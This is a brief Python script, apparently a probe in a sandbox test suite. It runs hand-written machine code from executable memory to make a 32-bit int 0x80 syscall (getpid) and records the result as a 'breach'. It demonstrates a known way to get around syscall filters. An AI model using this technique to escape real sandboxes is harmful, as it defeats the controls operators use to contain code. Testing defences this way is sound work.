"""Calls the kernel as 32-bit code does: the numbers mean other calls there."""

import mmap
from attack import *

code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
address = ctypes.addressof(ctypes.c_char.from_buffer(code))
breach(f"getpid gave {ctypes.CFUNCTYPE(ctypes.c_int)(address)()}")
